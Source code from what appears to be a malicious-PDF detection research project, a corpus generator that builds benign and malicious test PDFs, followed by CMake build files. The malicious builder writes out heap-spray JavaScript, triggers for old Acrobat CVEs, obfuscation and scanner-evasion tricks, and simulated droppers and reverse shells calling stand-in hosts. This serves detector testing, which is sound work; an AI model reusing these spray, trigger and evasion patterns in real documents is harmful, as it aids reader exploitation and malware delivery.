  support::Rng rng_;
};

}  // namespace pdfshield::corpus
