#include "corpus/generator.hpp"

#include "corpus/builders.hpp"
#include "pdf/crypto.hpp"
#include "reader/shellcode.hpp"

namespace pdfshield::corpus {

using reader::ShellcodeProgram;

namespace {

/// Escapes text into a single-quoted JS string literal.
std::string js_literal(const std::string& s) {
  std::string out = "'";
  for (char c : s) {
    if (c == '\'' || c == '\\') out.push_back('\\');
    if (c == '\n') {
      out += "\\n";
      continue;
    }
    out.push_back(c);
  }
  out.push_back('\'');
  return out;
}

/// Comma-separated char codes for the fromCharCode obfuscation style.
std::string char_codes(const std::string& s) {
  std::string out;
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (i) out.push_back(',');
    out += std::to_string(static_cast<int>(static_cast<unsigned char>(s[i])));
  }
  return out;
}

}  // namespace

CorpusGenerator::CorpusGenerator(CorpusConfig config)
    : config_(config), rng_(config.seed) {}

// ---------------------------------------------------------------------------
// Benign families
// ---------------------------------------------------------------------------

Sample CorpusGenerator::benign_sample(std::size_t index, bool force_js) {
  Sample sample;
  sample.malicious = false;
  const bool with_js = force_js || rng_.chance(config_.benign_js_fraction);
  sample.has_javascript = with_js;

  DocumentBuilder builder(rng_);
  const int pages = 2 + static_cast<int>(rng_.below(12));
  builder.add_pages(pages, 400 + rng_.below(1200));
  builder.add_padding_objects(8 + static_cast<int>(rng_.below(50)));
  builder.set_info("Title", "Quarterly " + lorem_text(rng_, 16));
  builder.set_info("Author", lorem_text(rng_, 10));
  builder.set_info("Producer", "pdfshield-corpus");

  if (!with_js) {
    sample.family = "benign/plain";
    sample.name = "benign-" + std::to_string(index) + ".pdf";
    sample.data = builder.build();
    return sample;
  }

  // Benign scripts also allocate: rendering helpers build report strings
  // of tens of KB (a few MB at reported scale — the paper's benign
  // population averages 7.1 MB in-JS with a 21 MB max).
  const std::size_t benign_build =
      (12u << 10) + rng_.below(68u << 10);  // 12-80 KB physical
  const std::string report_build =
      "var block = 'row;" + lorem_text(rng_, 24) + "';"
      "while (block.length < " + std::to_string(benign_build) +
      ") block += block;"
      "var report = block;";

  switch (rng_.below(5)) {
    case 0: {  // form validation
      sample.family = "benign/form-validation";
      builder.add_form_field("amount", std::to_string(rng_.below(100000)));
      builder.add_form_field("email", "user@example.org");
      builder.set_open_action_js(
          "var f = this.getField('amount');"
          "var v = Number(f.value);"
          "if (isNaN(v) || v < 0) { app.alert('Invalid amount'); }" +
          report_build + "var msg = 'validated ' + v;");
      break;
    }
    case 1: {  // field arithmetic
      sample.family = "benign/field-sum";
      builder.add_form_field("a", std::to_string(rng_.below(1000)));
      builder.add_form_field("b", std::to_string(rng_.below(1000)));
      builder.set_open_action_js(
          "var total = Number(this.getField('a').value) +"
          " Number(this.getField('b').value);"
          "var report = util.printf('sum: %d', total);");
      break;
    }
    case 2: {  // greeting / navigation
      sample.family = "benign/greeting";
      builder.set_open_action_js(
          "var today = util.printd('yyyy-mm-dd', 0);" + report_build +
          "app.alert('Welcome! Generated ' + today);");
      break;
    }
    case 3: {  // named scripts (print helpers)
      sample.family = "benign/named-scripts";
      builder.add_named_js("init", "var prepared = true;");
      builder.add_named_js("banner",
                           "var banner = 'Document ' + this.documentFileName;");
      break;
    }
    default: {  // rare SOAP-based submitter (the paper's benign network user)
      if (rng_.chance(0.08)) {
        sample.family = "benign/soap-submit";
        builder.add_form_field("feedback", lorem_text(rng_, 40));
        builder.set_open_action_js(
            "var payload = this.getField('feedback').value;"
            "SOAP.request({cURL: 'http://forms.example.org/submit',"
            " oRequest: {text: payload}});");
      } else {
        sample.family = "benign/page-setup";
        builder.set_open_action_js(
            "var pages = this.numPages;"
            "var label = 'pages: ' + pages;");
      }
    }
  }
  sample.name = "benign-js-" + std::to_string(index) + ".pdf";
  sample.data = builder.build();
  return sample;
}

std::vector<Sample> CorpusGenerator::generate_benign(std::size_t count) {
  std::vector<Sample> out;
  out.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    out.push_back(benign_sample(i, /*force_js=*/false));
  }
  return out;
}

std::vector<Sample> CorpusGenerator::generate_benign_with_js(std::size_t count) {
  std::vector<Sample> out;
  out.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    out.push_back(benign_sample(i, /*force_js=*/true));
  }
  return out;
}

// ---------------------------------------------------------------------------
// Malicious families
// ---------------------------------------------------------------------------

std::string CorpusGenerator::spray_script(const std::string& shellcode,
                                          std::size_t bytes,
                                          const std::string& style) {
  const std::string sled = "unescape('%u9090%u9090%u9090%u9090')";
  std::string core =
      "var unit = " + sled + " + " + js_literal(shellcode) + ";"
      "var spray = unit;"
      "while (spray.length < " + std::to_string(bytes) + ") spray += spray;"
      "var keep = spray;";

  if (style == "plain") return core;
  if (style == "eval") {
    return "var code = " + js_literal(core) + "; eval(code);";
  }
  if (style == "charcode") {
    return "var cc = [" + char_codes(core) + "];"
           "var src = '';"
           "for (var i = 0; i < cc.length; i++) src +="
           " String.fromCharCode(cc[i]);"
           "eval(src);";
  }
  // "title" and "fields" styles are assembled by the caller (they need the
  // document side of the payload).
  return core;
}

Sample CorpusGenerator::malicious_sample(std::size_t index) {
  Sample sample;
  sample.malicious = true;
  sample.has_javascript = true;
  sample.name = "mal-" + std::to_string(index) + ".pdf";

  // --- behaviour family ----------------------------------------------------
  double roll = rng_.uniform01();
  auto take = [&roll](double frac) {
    if (roll < frac) {
      roll = 2.0;  // consumed
      return true;
    }
    roll -= frac;
    return false;
  };

  enum class Family {
    kNoise, kCrashPlain, kCrashObfuscated, kRender, kStaged, kDelayed,
    kEggHunt, kInject, kShell, kDropper,
  } family = Family::kDropper;
  if (take(config_.frac_noise)) family = Family::kNoise;
  else if (take(config_.frac_crash_plain)) family = Family::kCrashPlain;
  else if (take(config_.frac_crash_obfuscated)) family = Family::kCrashObfuscated;
  else if (take(config_.frac_render_context)) family = Family::kRender;
  else if (take(config_.frac_staged)) family = Family::kStaged;
  else if (take(config_.frac_delayed)) family = Family::kDelayed;
  else if (take(config_.frac_egghunt)) family = Family::kEggHunt;
  else if (take(config_.frac_inject)) family = Family::kInject;
  else if (take(config_.frac_shell)) family = Family::kShell;

  // --- shellcode program ----------------------------------------------------
  const std::string tag = rng_.hex_string(6);
  ShellcodeProgram prog;
  switch (family) {
    case Family::kEggHunt:
      prog.ops.push_back({"HUNT", {std::to_string(16 + rng_.below(48))}});
      prog.ops.push_back({"WRITE", {"c:/temp/egg-" + tag + ".exe", "egg-payload"}});
      prog.ops.push_back({"EXEC", {"c:/temp/egg-" + tag + ".exe"}});
      sample.family = "malicious/egghunt";
      break;
    case Family::kInject:
      prog.ops.push_back({"INJECT", {"*", "hk-" + tag + ".dll"}});
      sample.family = "malicious/dll-inject";
      break;
    case Family::kShell:
      if (rng_.chance(0.5)) {
        prog.ops.push_back({"CONNECT", {"198.51.100." + std::to_string(rng_.below(255)),
                                        std::to_string(1024 + rng_.below(60000))}});
        sample.family = "malicious/reverse-shell";
      } else {
        prog.ops.push_back({"LISTEN", {std::to_string(1024 + rng_.below(60000))}});
        sample.family = "malicious/bind-shell";
      }
      break;
    default:
      prog.ops.push_back({"DROP", {"http://mal-" + tag + ".example/p.exe",
                                   "c:/temp/p-" + tag + ".exe"}});
      prog.ops.push_back({"EXEC", {"c:/temp/p-" + tag + ".exe"}});
      sample.family = "malicious/dropper";
      break;
  }
  std::string shellcode = reader::encode_shellcode(prog);
  if (family == Family::kCrashPlain || family == Family::kCrashObfuscated) {
    // Corrupt the marker: the sled is there but the hijack finds no
    // working shellcode and the reader dies.
    shellcode[1] = 'X';
    sample.family = family == Family::kCrashPlain ? "malicious/crash-plain"
                                                  : "malicious/crash-obfuscated";
    sample.expect_crash = true;
  }

  // --- trigger -------------------------------------------------------------
  std::string trigger;
  if (family == Family::kRender) {
    static const char* kRenderCves[][2] = {
        {"CVE-2010-2883", "Font"}, {"CVE-2010-3654", "Flash"},
        {"CVE-2009-3953", "U3D"},  {"CVE-2010-0188", "TIFF"},
        {"CVE-2009-0658", "JBIG2"}};
    const auto& pick = kRenderCves[rng_.below(5)];
    sample.cve = pick[0];
    sample.family = "malicious/render-" + std::string(pick[1]);
    trigger = "";  // exploit fires during rendering, not from JS
  } else if (family == Family::kNoise) {
    if (rng_.chance(0.5)) {
      sample.cve = "CVE-2009-1492";
      trigger = "this.getAnnots(-1);";
    } else {
      sample.cve = "CVE-2013-0640";
      trigger = "this.xfa();";
    }
    sample.expect_noise = true;
    sample.family = "malicious/noise-" + sample.cve;
  } else {
    if (rng_.chance(0.5)) {
      sample.cve = "CVE-2009-0927";
      trigger = "Collab.getIcon(keep.substring(0, 1500));";
    } else {
      sample.cve = "CVE-2009-4324";
      trigger = "this.media.newPlayer(null);";
    }
  }

  // --- spray size (Fig. 7 range) --------------------------------------------
  // Right-skewed draw: most samples spray near the minimum (the paper's
  // population clusters in the low hundreds of MB with a 1.7 GB tail).
  const double skew = rng_.uniform01() * rng_.uniform01();
  const std::size_t spray_bytes =
      config_.spray_min_bytes +
      static_cast<std::size_t>(
          skew * static_cast<double>(config_.spray_max_bytes -
                                     config_.spray_min_bytes));

  // --- JS obfuscation style ---------------------------------------------------
  std::string style = "plain";
  const double style_roll = rng_.uniform01();
  if (style_roll < 0.20) style = "eval";
  else if (style_roll < 0.32) style = "charcode";
  else if (style_roll < 0.45) style = "title";

  // --- document assembly ------------------------------------------------------
  DocumentBuilder builder(rng_);
  builder.add_blank_page();

  std::string script;
  const std::string payload = spray_script(shellcode, spray_bytes,
                                           style == "title" ? "plain" : style);
  if (family == Family::kNoise) {
    // Version-fingerprinting gate: attack only readers the CVE affects, so
    // the sample "does nothing" on Acrobat 8/9.
    const std::string gate = sample.cve == "CVE-2009-1492"
                                 ? "app.viewerVersion < 7.5"
                                 : "app.viewerVersion >= 10.5";
    script = "if (" + gate + ") {" + payload + trigger + "}";
  } else if (family == Family::kStaged) {
    sample.family = "malicious/staged";
    script = payload + "this.addScript('u" + tag + "', " + js_literal(trigger) + ");";
  } else if (family == Family::kDelayed) {
    sample.family = "malicious/delayed";
    script = payload + "app.setTimeOut(" + js_literal(trigger) + ", " +
             std::to_string(1000 + rng_.below(30000)) + ");";
  } else if (style == "title") {
    // Payload smuggled into document metadata; the visible script only
    // holds an eval of this.info — extraction-based tools lose it.
    builder.set_info("Title", payload + trigger);
    script = "eval(this.info.Title);";
  } else {
    script = payload + trigger;
  }

  // --- static-feature obfuscation draws (Table VI marginals) ----------------
  int encoding_levels = 1;
  const double enc_roll = rng_.uniform01();
  if (enc_roll < config_.frac_encoding_none) encoding_levels = 0;
  else if (enc_roll < config_.frac_encoding_none + config_.frac_encoding_multi2) encoding_levels = 2;
  else if (enc_roll < config_.frac_encoding_none + config_.frac_encoding_multi2 +
                          config_.frac_encoding_multi3) {
    encoding_levels = 3;
  }

  // Trigger surface: mostly /OpenAction, but real corpora also arm page
  // /AA actions and /Names-tree scripts.
  const double trigger_roll = rng_.uniform01();
  if (trigger_roll < 0.70 || family == Family::kStaged ||
      family == Family::kDelayed) {
    builder.set_open_action_js(script, /*in_stream=*/encoding_levels > 0);
  } else if (trigger_roll < 0.85) {
    builder.set_page_aa_js(script, /*in_stream=*/encoding_levels > 0);
    sample.family += "+page-aa";
  } else {
    builder.add_named_js("x" + tag, script, /*in_stream=*/encoding_levels > 0);
    sample.family += "+named";
  }
  if (encoding_levels > 1) builder.set_js_encoding_levels(encoding_levels);
  else if (encoding_levels == 1) builder.set_js_encoding_levels(1);

  if (family == Family::kRender) {
    const std::string subtype = sample.family.substr(sample.family.rfind('-') + 1);
    builder.add_render_exploit(sample.cve, subtype);
  }

  bool header_obf = rng_.chance(config_.frac_header_obf);
  bool hex_code = rng_.chance(config_.frac_hex_code);
  if (family == Family::kCrashPlain) {
    header_obf = hex_code = false;
  } else if (family == Family::kCrashObfuscated) {
    header_obf = true;  // guarantee one static feature
  }
  if (hex_code) builder.hexify_js_keywords();
  if (rng_.chance(config_.frac_empty_objects) && family != Family::kCrashPlain) {
    builder.add_empty_objects_on_chain(1 + static_cast<int>(rng_.below(5)));
  }

  // --- chain-ratio shaping (Fig. 6) -----------------------------------------
  if (family == Family::kCrashPlain || rng_.chance(config_.frac_low_ratio)) {
    // Low-ratio tail: pad with enough unrelated objects to dip under 0.2.
    builder.add_pages(3, 400);
    builder.add_padding_objects(30 + static_cast<int>(rng_.below(30)));
  } else if (rng_.chance(config_.frac_ratio_one)) {
    // Ratio-1 samples: every object ends up on the Javascript chain.
    // (Achieved by referencing the page tree from the action itself.)
    pdf::Document& d = builder.document();
    for (auto& [num, obj] : d.objects()) {
      if ((obj.is_dict() || obj.is_stream()) &&
          obj.dict_or_stream_dict().contains("JS")) {
        pdf::Object* root = d.trailer().find("Root");
        if (root && root->is_ref()) {
          obj.dict_or_stream_dict().set("P", *root);
        }
      }
    }
  }

  // Owner-password protection: a real anti-analysis trick. The encrypted
  // strings/streams defeat naive static scanners; readers (and our
  // front-end) open them with the empty user password.
  if (rng_.chance(config_.frac_owner_encrypted)) {
    pdf::encrypt_document(builder.document(), "s3cret-own3r", rng_);
    sample.family += "+encrypted";
  }

  // Ground truth for Table VIII.
  sample.expect_detectable = !sample.expect_noise &&
                             sample.family.rfind("malicious/crash-plain", 0) != 0;

  sample.data = builder.build(header_obf);
  return sample;
}

std::vector<Sample> CorpusGenerator::generate_malicious(std::size_t count) {
  std::vector<Sample> out;
  out.reserve(count);
  for (std::size_t i = 0; i < count; ++i) out.push_back(malicious_sample(i));
  return out;
}

std::pair<Sample, Sample> CorpusGenerator::generate_cross_document_pair() {
  const std::string tag = rng_.hex_string(6);
  const std::string exe = "c:/temp/split-" + tag + ".exe";

  auto make = [&](const std::string& name, const ShellcodeProgram& prog,
                  const std::string& trigger) {
    Sample s;
    s.malicious = true;
    s.has_javascript = true;
    s.name = name;
    s.family = "malicious/cross-document";
    s.cve = "CVE-2009-0927";
    DocumentBuilder builder(rng_);
    builder.add_blank_page();
    builder.set_open_action_js(
        spray_script(reader::encode_shellcode(prog), 4u << 20, "plain") + trigger);
    s.data = builder.build();
    return s;
  };

  ShellcodeProgram dropper;
  dropper.ops.push_back({"DROP", {"http://mal-" + tag + ".example/s.exe", exe}});
  ShellcodeProgram executor;
  executor.ops.push_back({"EXEC", {exe}});

  return {make("cross-a-" + tag + ".pdf", dropper,
               "Collab.getIcon(keep.substring(0, 1500));"),
          make("cross-b-" + tag + ".pdf", executor,
               "this.media.newPlayer(null);")};
}

Sample CorpusGenerator::generate_embedded_attack_sample(std::size_t index) {
  const std::string tag = rng_.hex_string(6);

  // Inner document: a straightforward dropper.
  ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://mal-" + tag + ".example/e.exe",
                               "c:/temp/e-" + tag + ".exe"}});
  prog.ops.push_back({"EXEC", {"c:/temp/e-" + tag + ".exe"}});
  DocumentBuilder inner(rng_);
  inner.add_blank_page();
  inner.set_open_action_js(
      spray_script(reader::encode_shellcode(prog), 2u << 20, "plain") +
      "Collab.getIcon(keep.substring(0, 1500));");
  const support::Bytes inner_bytes = inner.build();

  // Host: looks like an ordinary report; its only trick is launching the
  // attachment.
  Sample sample;
  sample.malicious = true;
  sample.has_javascript = true;
  sample.name = "embedded-attack-" + std::to_string(index) + ".pdf";
  sample.family = "malicious/embedded-pdf";
  sample.cve = "CVE-2009-0927";
  DocumentBuilder host(rng_);
  host.add_pages(4, 700);
  host.add_padding_objects(20);
  host.set_info("Title", "Shipping label " + tag);
  host.add_embedded_file("update.pdf", inner_bytes);
  host.set_open_action_js(
      "this.exportDataObject({cName: 'update.pdf', nLaunch: 2});");
  sample.data = host.build();
  return sample;
}

Sample CorpusGenerator::make_mimicry_variant(std::size_t index) {
  // Structural mimicry [8]: runtime behaviour of a dropper, wrapped in a
  // document whose every static signal matches the benign population —
  // rich page tree, padding objects, realistic metadata, no obfuscation,
  // JS stored exactly like benign form scripts.
  Sample sample;
  sample.malicious = true;
  sample.has_javascript = true;
  sample.name = "mimicry-" + std::to_string(index) + ".pdf";
  sample.family = "malicious/mimicry";
  sample.cve = "CVE-2009-0927";

  const std::string tag = rng_.hex_string(6);
  ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://mal-" + tag + ".example/m.exe",
                               "c:/temp/m-" + tag + ".exe"}});
  prog.ops.push_back({"EXEC", {"c:/temp/m-" + tag + ".exe"}});

  DocumentBuilder builder(rng_);
  builder.add_pages(6 + static_cast<int>(rng_.below(8)), 600 + rng_.below(800));
  builder.add_padding_objects(25 + static_cast<int>(rng_.below(40)));
  builder.set_info("Title", "Annual " + lorem_text(rng_, 14));
  builder.set_info("Author", lorem_text(rng_, 10));
  builder.add_form_field("amount", "100");
  builder.set_open_action_js(
      "var f = this.getField('amount');"  // benign-looking preamble
      "var v = Number(f.value);" +
      spray_script(reader::encode_shellcode(prog), 4u << 20, "plain") +
      "Collab.getIcon(keep.substring(0, 1500));");
  sample.data = builder.build();
  return sample;
}

}  // namespace pdfshield::corpus
