file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_pdf.dir/crypto.cpp.o"
  "CMakeFiles/pdfshield_pdf.dir/crypto.cpp.o.d"
  "CMakeFiles/pdfshield_pdf.dir/document.cpp.o"
  "CMakeFiles/pdfshield_pdf.dir/document.cpp.o.d"
  "CMakeFiles/pdfshield_pdf.dir/filters.cpp.o"
  "CMakeFiles/pdfshield_pdf.dir/filters.cpp.o.d"
  "CMakeFiles/pdfshield_pdf.dir/graph.cpp.o"
  "CMakeFiles/pdfshield_pdf.dir/graph.cpp.o.d"
  "CMakeFiles/pdfshield_pdf.dir/lexer.cpp.o"
  "CMakeFiles/pdfshield_pdf.dir/lexer.cpp.o.d"
  "CMakeFiles/pdfshield_pdf.dir/object.cpp.o"
  "CMakeFiles/pdfshield_pdf.dir/object.cpp.o.d"
  "CMakeFiles/pdfshield_pdf.dir/parser.cpp.o"
  "CMakeFiles/pdfshield_pdf.dir/parser.cpp.o.d"
  "CMakeFiles/pdfshield_pdf.dir/writer.cpp.o"
  "CMakeFiles/pdfshield_pdf.dir/writer.cpp.o.d"
  "CMakeFiles/pdfshield_pdf.dir/xref.cpp.o"
  "CMakeFiles/pdfshield_pdf.dir/xref.cpp.o.d"
  "libpdfshield_pdf.a"
  "libpdfshield_pdf.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_pdf.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
