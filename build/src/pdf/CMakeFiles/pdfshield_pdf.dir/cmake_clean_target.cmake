file(REMOVE_RECURSE
  "libpdfshield_pdf.a"
)
