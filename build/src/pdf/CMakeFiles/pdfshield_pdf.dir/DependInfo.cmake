
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/pdf/crypto.cpp" "src/pdf/CMakeFiles/pdfshield_pdf.dir/crypto.cpp.o" "gcc" "src/pdf/CMakeFiles/pdfshield_pdf.dir/crypto.cpp.o.d"
  "/root/repo/src/pdf/document.cpp" "src/pdf/CMakeFiles/pdfshield_pdf.dir/document.cpp.o" "gcc" "src/pdf/CMakeFiles/pdfshield_pdf.dir/document.cpp.o.d"
  "/root/repo/src/pdf/filters.cpp" "src/pdf/CMakeFiles/pdfshield_pdf.dir/filters.cpp.o" "gcc" "src/pdf/CMakeFiles/pdfshield_pdf.dir/filters.cpp.o.d"
  "/root/repo/src/pdf/graph.cpp" "src/pdf/CMakeFiles/pdfshield_pdf.dir/graph.cpp.o" "gcc" "src/pdf/CMakeFiles/pdfshield_pdf.dir/graph.cpp.o.d"
  "/root/repo/src/pdf/lexer.cpp" "src/pdf/CMakeFiles/pdfshield_pdf.dir/lexer.cpp.o" "gcc" "src/pdf/CMakeFiles/pdfshield_pdf.dir/lexer.cpp.o.d"
  "/root/repo/src/pdf/object.cpp" "src/pdf/CMakeFiles/pdfshield_pdf.dir/object.cpp.o" "gcc" "src/pdf/CMakeFiles/pdfshield_pdf.dir/object.cpp.o.d"
  "/root/repo/src/pdf/parser.cpp" "src/pdf/CMakeFiles/pdfshield_pdf.dir/parser.cpp.o" "gcc" "src/pdf/CMakeFiles/pdfshield_pdf.dir/parser.cpp.o.d"
  "/root/repo/src/pdf/writer.cpp" "src/pdf/CMakeFiles/pdfshield_pdf.dir/writer.cpp.o" "gcc" "src/pdf/CMakeFiles/pdfshield_pdf.dir/writer.cpp.o.d"
  "/root/repo/src/pdf/xref.cpp" "src/pdf/CMakeFiles/pdfshield_pdf.dir/xref.cpp.o" "gcc" "src/pdf/CMakeFiles/pdfshield_pdf.dir/xref.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/support/CMakeFiles/pdfshield_support.dir/DependInfo.cmake"
  "/root/repo/build/src/flate/CMakeFiles/pdfshield_flate.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
