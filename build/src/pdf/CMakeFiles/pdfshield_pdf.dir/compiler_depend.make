# Empty compiler generated dependencies file for pdfshield_pdf.
# This may be replaced when dependencies are built.
