file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_corpus.dir/builders.cpp.o"
  "CMakeFiles/pdfshield_corpus.dir/builders.cpp.o.d"
  "CMakeFiles/pdfshield_corpus.dir/generator.cpp.o"
  "CMakeFiles/pdfshield_corpus.dir/generator.cpp.o.d"
  "libpdfshield_corpus.a"
  "libpdfshield_corpus.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_corpus.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
