file(REMOVE_RECURSE
  "libpdfshield_corpus.a"
)
