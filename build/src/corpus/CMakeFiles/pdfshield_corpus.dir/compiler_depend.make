# Empty compiler generated dependencies file for pdfshield_corpus.
# This may be replaced when dependencies are built.
