file(REMOVE_RECURSE
  "libpdfshield_core.a"
)
