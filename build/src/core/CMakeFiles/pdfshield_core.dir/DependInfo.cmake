
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/core/deinstrumentation.cpp" "src/core/CMakeFiles/pdfshield_core.dir/deinstrumentation.cpp.o" "gcc" "src/core/CMakeFiles/pdfshield_core.dir/deinstrumentation.cpp.o.d"
  "/root/repo/src/core/detector.cpp" "src/core/CMakeFiles/pdfshield_core.dir/detector.cpp.o" "gcc" "src/core/CMakeFiles/pdfshield_core.dir/detector.cpp.o.d"
  "/root/repo/src/core/instrumenter.cpp" "src/core/CMakeFiles/pdfshield_core.dir/instrumenter.cpp.o" "gcc" "src/core/CMakeFiles/pdfshield_core.dir/instrumenter.cpp.o.d"
  "/root/repo/src/core/jschain.cpp" "src/core/CMakeFiles/pdfshield_core.dir/jschain.cpp.o" "gcc" "src/core/CMakeFiles/pdfshield_core.dir/jschain.cpp.o.d"
  "/root/repo/src/core/keys.cpp" "src/core/CMakeFiles/pdfshield_core.dir/keys.cpp.o" "gcc" "src/core/CMakeFiles/pdfshield_core.dir/keys.cpp.o.d"
  "/root/repo/src/core/monitor_codegen.cpp" "src/core/CMakeFiles/pdfshield_core.dir/monitor_codegen.cpp.o" "gcc" "src/core/CMakeFiles/pdfshield_core.dir/monitor_codegen.cpp.o.d"
  "/root/repo/src/core/pipeline.cpp" "src/core/CMakeFiles/pdfshield_core.dir/pipeline.cpp.o" "gcc" "src/core/CMakeFiles/pdfshield_core.dir/pipeline.cpp.o.d"
  "/root/repo/src/core/report.cpp" "src/core/CMakeFiles/pdfshield_core.dir/report.cpp.o" "gcc" "src/core/CMakeFiles/pdfshield_core.dir/report.cpp.o.d"
  "/root/repo/src/core/static_features.cpp" "src/core/CMakeFiles/pdfshield_core.dir/static_features.cpp.o" "gcc" "src/core/CMakeFiles/pdfshield_core.dir/static_features.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/pdf/CMakeFiles/pdfshield_pdf.dir/DependInfo.cmake"
  "/root/repo/build/src/reader/CMakeFiles/pdfshield_reader.dir/DependInfo.cmake"
  "/root/repo/build/src/flate/CMakeFiles/pdfshield_flate.dir/DependInfo.cmake"
  "/root/repo/build/src/jsapi/CMakeFiles/pdfshield_jsapi.dir/DependInfo.cmake"
  "/root/repo/build/src/js/CMakeFiles/pdfshield_js.dir/DependInfo.cmake"
  "/root/repo/build/src/sys/CMakeFiles/pdfshield_sys.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/pdfshield_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
