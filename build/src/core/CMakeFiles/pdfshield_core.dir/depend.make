# Empty dependencies file for pdfshield_core.
# This may be replaced when dependencies are built.
