file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_core.dir/deinstrumentation.cpp.o"
  "CMakeFiles/pdfshield_core.dir/deinstrumentation.cpp.o.d"
  "CMakeFiles/pdfshield_core.dir/detector.cpp.o"
  "CMakeFiles/pdfshield_core.dir/detector.cpp.o.d"
  "CMakeFiles/pdfshield_core.dir/instrumenter.cpp.o"
  "CMakeFiles/pdfshield_core.dir/instrumenter.cpp.o.d"
  "CMakeFiles/pdfshield_core.dir/jschain.cpp.o"
  "CMakeFiles/pdfshield_core.dir/jschain.cpp.o.d"
  "CMakeFiles/pdfshield_core.dir/keys.cpp.o"
  "CMakeFiles/pdfshield_core.dir/keys.cpp.o.d"
  "CMakeFiles/pdfshield_core.dir/monitor_codegen.cpp.o"
  "CMakeFiles/pdfshield_core.dir/monitor_codegen.cpp.o.d"
  "CMakeFiles/pdfshield_core.dir/pipeline.cpp.o"
  "CMakeFiles/pdfshield_core.dir/pipeline.cpp.o.d"
  "CMakeFiles/pdfshield_core.dir/report.cpp.o"
  "CMakeFiles/pdfshield_core.dir/report.cpp.o.d"
  "CMakeFiles/pdfshield_core.dir/static_features.cpp.o"
  "CMakeFiles/pdfshield_core.dir/static_features.cpp.o.d"
  "libpdfshield_core.a"
  "libpdfshield_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
