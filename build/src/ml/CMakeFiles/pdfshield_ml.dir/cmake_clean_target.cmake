file(REMOVE_RECURSE
  "libpdfshield_ml.a"
)
