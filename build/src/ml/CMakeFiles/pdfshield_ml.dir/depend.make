# Empty dependencies file for pdfshield_ml.
# This may be replaced when dependencies are built.
