file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_ml.dir/dataset.cpp.o"
  "CMakeFiles/pdfshield_ml.dir/dataset.cpp.o.d"
  "CMakeFiles/pdfshield_ml.dir/decision_tree.cpp.o"
  "CMakeFiles/pdfshield_ml.dir/decision_tree.cpp.o.d"
  "CMakeFiles/pdfshield_ml.dir/linear_svm.cpp.o"
  "CMakeFiles/pdfshield_ml.dir/linear_svm.cpp.o.d"
  "CMakeFiles/pdfshield_ml.dir/metrics.cpp.o"
  "CMakeFiles/pdfshield_ml.dir/metrics.cpp.o.d"
  "CMakeFiles/pdfshield_ml.dir/naive_bayes.cpp.o"
  "CMakeFiles/pdfshield_ml.dir/naive_bayes.cpp.o.d"
  "CMakeFiles/pdfshield_ml.dir/one_class.cpp.o"
  "CMakeFiles/pdfshield_ml.dir/one_class.cpp.o.d"
  "CMakeFiles/pdfshield_ml.dir/random_forest.cpp.o"
  "CMakeFiles/pdfshield_ml.dir/random_forest.cpp.o.d"
  "libpdfshield_ml.a"
  "libpdfshield_ml.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_ml.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
