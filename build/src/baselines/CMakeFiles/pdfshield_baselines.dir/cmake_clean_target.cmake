file(REMOVE_RECURSE
  "libpdfshield_baselines.a"
)
