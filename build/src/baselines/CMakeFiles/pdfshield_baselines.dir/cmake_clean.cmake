file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_baselines.dir/dynamic_baselines.cpp.o"
  "CMakeFiles/pdfshield_baselines.dir/dynamic_baselines.cpp.o.d"
  "CMakeFiles/pdfshield_baselines.dir/static_baselines.cpp.o"
  "CMakeFiles/pdfshield_baselines.dir/static_baselines.cpp.o.d"
  "libpdfshield_baselines.a"
  "libpdfshield_baselines.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pdfshield_baselines.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
