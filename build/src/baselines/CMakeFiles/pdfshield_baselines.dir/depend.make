# Empty dependencies file for pdfshield_baselines.
# This may be replaced when dependencies are built.
