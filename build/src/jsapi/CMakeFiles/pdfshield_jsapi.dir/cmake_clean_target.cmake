file(REMOVE_RECURSE
  "libpdfshield_jsapi.a"
)
