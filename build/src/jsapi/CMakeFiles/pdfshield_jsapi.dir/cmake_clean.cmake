file(REMOVE_RECURSE
  "CMakeFiles/pdfshield_jsapi.dir/acrobat_api.cpp.o"
  "CMakeFiles/pdfshield_jsapi.dir/acrobat_api.cpp.o.d"
  "libpdfshield_jsapi.a"
  "libpdfshield_jsapi.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
